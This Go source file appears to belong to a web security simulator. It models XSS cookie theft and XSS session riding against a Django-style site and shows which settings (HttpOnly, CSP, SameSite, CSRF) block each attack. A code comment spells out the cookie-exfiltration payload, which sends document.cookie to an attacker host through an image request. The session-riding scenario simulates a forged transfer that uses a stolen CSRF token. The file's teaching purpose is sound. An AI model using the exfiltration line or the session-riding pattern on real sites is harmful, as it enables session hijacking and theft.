package sim

import (
	"strings"
	"time"
)

var xssCookieTheft = &Scenario{
	ID:    "xss-cookie-theft",
	Title: "XSS steals the session cookie",
	Story: "The attacker's comment on the site carries a script. When the victim opens the page, the script reads " +
		"document.cookie and sends it to the attacker, who replays the cookie from their own machine.",
	Lanes:     []Lane{{ActorVictim, "Victim's browser"}, {ActorServer, SiteHost}, {ActorAttacker, "Attacker (" + AttackerHost + ")"}},
	Variables: []string{"session cookie", "document.cookie", "attacker holds", "attacker is"},
	Toggles:   []string{"SESSION_COOKIE_HTTPONLY", "SECURE_CSP", "SESSION_COOKIE_NAME"},
	logsIn:    true,
	script:    xssCookieTheftScript,
}

var xssSessionRiding = &Scenario{
	ID:    "xss-session-riding",
	Title: "XSS rides the session",
	Story: "The injected script does not steal the cookie: it sends requests from the victim's own page, which carry " +
		"the victim's cookies and can read the CSRF token. HttpOnly, SameSite and CSRF tokens do not help.",
	Lanes:     []Lane{{ActorVictim, "Victim's browser (injected script)"}, {ActorServer, SiteHost}},
	Variables: []string{"session cookie", "CSRF token read", "transfer"},
	Toggles:   []string{"SECURE_CSP", "SESSION_COOKIE_HTTPONLY", "SESSION_COOKIE_SAMESITE", "csrf_middleware"},
	logsIn:    true,
	script:    xssSessionRidingScript,
}

// openInjectedPage opens, a minute after the login, the page that carries the
// attacker's script; it reports whether the script runs.
func (w *World) openInjectedPage() bool {
	w.wait(time.Minute)
	w.follow(ActorVictim, "/account/", "opens a page that shows the attacker's comment, script included")
	runs, check := w.victim.scriptRuns()
	if !runs {
		w.note(ActorVictim, "the injected script is blocked", "nothing runs", &check)
		w.decide(Blocked, "The injected script never runs: the Content-Security-Policy forbids inline script",
			check.Rule, check.Source)
		return false
	}
	w.note(ActorVictim, "the injected script starts", "runs with the page's origin", &check)
	return true
}

func xssCookieTheftScript(w *World) {
	session := w.loggedIn()
	if !w.openInjectedPage() {
		return
	}
	doc := w.siteURL("/account/")
	visible := w.victim.jar.DocumentCookie(doc, w.time())
	stolen := cookieValue(visible, w.cfg.SessionCookieName)

	var check *Check
	if stolen == "" && w.victimSessionCookie() != "" {
		check = &Check{Rule: "the session cookie is HttpOnly, so document.cookie leaves it out", Source: "RFC 6265bis §5.8.3 (non-HTTP API excludes http-only cookies)", Passed: false}
	} else if stolen != "" {
		check = &Check{Rule: "the session cookie is not HttpOnly, so document.cookie includes it", Source: "RFC 6265bis §5.8.3", Passed: true}
	}
	w.note(ActorVictim, "the script reads document.cookie", quoteOrEmpty(visible), check)
	w.track("document.cookie", quoteOrEmpty(visible))

	// The script writes new Image().src = origin + "/collect?c=" + document.cookie,
	// on the page's scheme, so that nothing is mixed content.
	exfil := w.attackerPage()
	exfil.Path, exfil.Query = "/collect", "c="+queryEncode(visible)
	w.victim.do(nav{method: "GET", url: exfil, initiator: doc.Origin(), action: "the script sends what it read to the attacker", actor: ActorVictim})
	if (stolen == "" && check == nil) || (stolen != "" && w.sessionUser(stolen) != victimName) {
		// The session ended before the victim opened the page: what the
		// script finds is no session cookie, or one the page's answer
		// started (CSRF_USE_SESSIONS, say).
		found := "document.cookie holds none to steal"
		if stolen != "" {
			found = "the session cookie it read names a new, anonymous session"
		}
		ended, rule, src := w.sessionEnded(session, "the script ran")
		w.decide(Blocked, ended+": "+found, rule, src)
		return
	}
	if stolen == "" {
		reason := "HttpOnly keeps the session cookie out of document.cookie; the script gets nothing to steal"
		if !w.cfg.SessionCookieHTTPOnly && w.csrfCookieIsSessionCookie() {
			reason = "HttpOnly keeps the session cookie out of document.cookie, though SESSION_COOKIE_HTTPONLY = False" + w.oneCookieANameNote() +
				" (CSRF_COOKIE_HTTPONLY = True); the script gets nothing to steal"
		}
		w.decide(Blocked, reason, check.Rule, check.Source)
		return
	}
	w.stolenCookie = stolen
	w.track("attacker holds", short(stolen))

	w.wait(time.Minute)
	replayed := w.replayResponse(stolen, "replays the stolen cookie from the attacker's machine")
	user := replayed.User
	w.track("attacker is", userOrAnonymous(user))
	if user == victimName {
		if w.cfg.SessionCookieHTTPOnly && w.csrfCookieIsSessionCookie() {
			w.decide(Succeeded, "document.cookie exposes the session key: "+nameClash+", "+
				"so CsrfViewMiddleware reads the key as its secret and sets it again without HttpOnly; the attacker replays it",
				"a response holds one cookie per name, and the CSRF cookie is not HttpOnly (CSRF_COOKIE_HTTPONLY = False)",
				"django/http/response.py HttpResponseBase.set_cookie (self.cookies, a SimpleCookie); django/middleware/csrf.py CsrfViewMiddleware._get_secret, _set_csrf_cookie")
			return
		}
		w.decide(Succeeded, "document.cookie exposes the session cookie (SESSION_COOKIE_HTTPONLY = False); the attacker replays it",
			"a cookie without HttpOnly is visible to scripts", "RFC 6265bis §5.8.3; Django settings SESSION_COOKIE_HTTPONLY")
		return
	}
	if !w.site.alive(stolen, w.time()) {
		w.decide(Blocked, "The attacker stole a live session cookie, but the session had ended on the server by the replay a minute later (it lives "+session.life.lives()+")",
			"a session lives its expiry age from its last save", "django/contrib/sessions/backends/base.py SessionBase.get_expiry_age")
		return
	}
	w.decide(Blocked, "The stolen cookie no longer opens a session when the attacker replays it: "+refusal(replayed),
		failedRule(replayed, "the server does not honour the key"), failedSource(replayed))
}

func xssSessionRidingScript(w *World) {
	session := w.loggedIn()
	if !w.openInjectedPage() {
		return
	}
	origin := w.siteURL("/").Origin()
	form := w.victim.do(nav{method: "GET", url: w.siteURL("/login/"), initiator: origin, referrer: origin + "/account/",
		action: "the script fetches a page with a form and reads its CSRF token", actor: ActorVictim})
	w.track("CSRF token read", quoteOrEmpty(short(form.CSRFToken)))
	sent, held := w.sessionCookieOn(w.siteURL("/transfer/"), "POST", origin)
	resp := w.victim.do(nav{method: "POST", url: w.siteURL("/transfer/"), initiator: origin, referrer: origin + "/account/",
		form:   map[string]string{"to": attackerName, "amount": "1000", "csrfmiddlewaretoken": form.CSRFToken},
		action: "the script posts a transfer to the attacker with the victim's cookies", actor: ActorVictim})
	w.track("transfer", didOrNothing(resp))
	if resp.Did != "" {
		w.decide(Succeeded, "The script acts inside the victim's page: same-origin requests carry the session cookie and the CSRF token",
			"cookies and tokens authenticate the page, not the code running in it", // RFC 6265bis §8.2 "Ambient Authority"; docs/ref/csrf.txt "How it works":
			// CSRF protection "assumes ... that there aren't any cross-site
			// scripting vulnerabilities on your site".
			"RFC 6265bis §8.2 (Ambient Authority); docs/ref/csrf.txt How it works (XSS can do anything CSRF can)")
		return
	}
	if !sent.sent && sent.none {
		ended, rule, src := w.sessionEnded(session, "the script ran")
		w.decide(Blocked, ended+": its transfer went out as an anonymous visitor's", rule, src)
		return
	}
	if sent.sent && w.sessionUser(sent.key) == "" && w.sessionOver(session) {
		// The page's answer (CSRF_USE_SESSIONS, say) started a new session.
		ended, rule, src := w.sessionEnded(session, "the script ran")
		w.decide(Blocked, ended+": its transfer carried the cookie of a new, anonymous session", rule, src)
		return
	}
	if !sent.sent && held.Code != "" {
		w.decide(Blocked, "The script's transfer never reached the session: the browser did not send the session cookie to /transfer/ ("+
			w.victim.prof.reasonName(&held)+"), so the transfer view saw an anonymous visitor", held.Why, held.Source)
		return
	}
	w.decide(Blocked, "The site refused the script's transfer: "+refusal(resp), failedRule(resp, "the transfer view refused the request"), failedSource(resp))
}

func quoteOrEmpty(s string) string {
	if s == "" {
		return `""`
	}
	return `"` + s + `"`
}

func userOrAnonymous(u string) string {
	if u == "" {
		return "anonymous"
	}
	return u
}

func didOrNothing(r Response) string {
	if r.Did == "" {
		return "refused (" + strings.TrimSpace(statusText(r)) + ")"
	}
	return r.Did
}

// deciding is the check that decided a refused request: for a 403, the
// CSRF check CsrfViewMiddleware refused it on (a session that failed to
// load, checked too, only explains an empty session); otherwise the first
// that failed. ok is false when none failed.
func deciding(r Response) (c Check, ok bool) {
	for _, ch := range r.Checks {
		if !ch.Passed && (r.Status != 403 || strings.HasPrefix(string(ch.Source), "django/middleware/csrf.py")) {
			return ch, true
		}
	}
	for _, ch := range r.Checks {
		if !ch.Passed {
			return ch, true
		}
	}
	return Check{}, false
}

// refusedForNoSecret reports whether CsrfViewMiddleware refused r because
// it found no CSRF secret (Django's REASON_NO_CSRF_COOKIE): no CSRF cookie,
// or, with CSRF_USE_SESSIONS, none in the session.
func (w *World) refusedForNoSecret(r Response) bool {
	where := 0 // csrfRules row: the cookie
	if w.cfg.CSRFUseSessions {
		where = 1
	}
	c, ok := deciding(r)
	return ok && r.Status == 403 && c.Rule == w.site.csrfRule(where, 0)
}

// failedRule names the deciding check's rule, or fallback.
func failedRule(r Response, fallback string) string {
	if c, ok := deciding(r); ok {
		return c.Rule
	}
	return fallback
}

// refusal says which of the server's checks failed, or the status.
func refusal(r Response) string {
	if c, ok := deciding(r); ok {
		return "the check \"" + c.Rule + "\" failed"
	}
	return statusText(r)
}

func failedSource(r Response) Source {
	if c, ok := deciding(r); ok {
		return c.Source
	}
	return "django/contrib/auth/decorators.py login_required"
}

// oneCookieANameNote says why the session cookie carries CsrfViewMiddleware's
// attributes when the two share a name ("" otherwise): a response holds one
// cookie per name, a Morsel that the second set_cookie() updates, keeping
// every attribute it does not set (django/http/response.py set_cookie).
func (w *World) oneCookieANameNote() string {
	if !w.csrfCookieIsSessionCookie() {
		return ""
	}
	return ": " + nameClash + ", and a response holds one cookie per name, so the one Django sends keeps CsrfViewMiddleware's attributes where SessionMiddleware sets none"
}

// nameClash is how the reasons say what csrfCookieIsSessionCookie reports.
const nameClash = "CSRF_COOKIE_NAME is the session cookie's name too"

// csrfCookieIsSessionCookie reports whether CsrfViewMiddleware sets a cookie
// of the session cookie's name.
func (w *World) csrfCookieIsSessionCookie() bool {
	return w.cfg.CSRFMiddleware && !w.cfg.CSRFUseSessions && w.cfg.CSRFCookieName == w.cfg.SessionCookieName
}
